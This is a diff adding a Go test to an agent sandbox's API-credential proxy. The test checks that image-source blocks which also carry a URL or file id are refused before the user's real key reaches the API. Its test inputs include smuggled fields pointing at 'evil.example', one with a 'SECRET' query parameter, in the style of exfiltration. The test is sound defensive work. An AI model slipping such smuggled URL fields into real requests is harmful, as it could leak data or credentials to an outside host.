@@ -114,3 +114,33 @@ func TestReplayReview40BodyWithoutType(t *testing.T) {
 		t.Errorf("the API received with the user's real key a body of no stated format: %.300q", got)
 	}
 }
+
+// TestReplayReview40SourceKeys: a content block's source passes only as
+// content given inline, by its type; but a source of an inline type
+// carrying also a URL or a file's id passed, and what the API makes of a
+// source that names both is its own (a parser that reads a URL where it
+// finds one fetches it). The proof, on the host side: the loopback
+// stand-in for the API receives such a request with the user's real key.
+func TestReplayReview40SourceKeys(t *testing.T) {
+	real := "real-claude-key-0123456789"
+	up := startAgentUpstream(t, "X-Api-Key", real)
+	p, sock := agentProxy(t, proxy.KeyCredential(proxy.APIKey, "test", real), up.URL)
+	for _, source := range []string{
+		`{"type":"base64","media_type":"image/png","data":"AA==","url":"https://evil.example/?d=SECRET"}`,
+		`{"type":"text","media_type":"text/plain","data":"x","uri":"https://evil.example/"}`,
+		`{"type":"base64","media_type":"image/png","data":"AA==","file":{"id":"file_011"}}`,
+	} {
+		body := `{"model":"claude-sonnet-4-5","max_tokens":64,"messages":[{"role":"user","content":[{"type":"image","source":` + source + `}]}]}`
+		status, answer := postThrough(t, sock, "/v1/messages", "X-Api-Key: "+p.Phantom, body)
+		if status != http.StatusForbidden || !strings.Contains(answer, "claudebox --network=host") {
+			t.Errorf("%s: answered %d %.200q, not a refusal that says how to allow it", source, status, answer)
+		}
+	}
+	if got := up.received(); len(got) > 0 {
+		t.Errorf("the API received with the user's real key a source naming a URL or a stored file: %.300q", got)
+	}
+	ok := `{"model":"claude-sonnet-4-5","max_tokens":64,"messages":[{"role":"user","content":[{"type":"document","source":{"type":"content","content":[{"type":"text","text":"x"}]}},{"type":"image","source":{"type":"base64","media_type":"image/png","data":"AA=="}}]}]}`
+	if status, answer := postThrough(t, sock, "/v1/messages", "X-Api-Key: "+p.Phantom, ok); status != http.StatusOK {
+		t.Errorf("a source given inline was refused: %d %.200q", status, answer)
+	}
+}
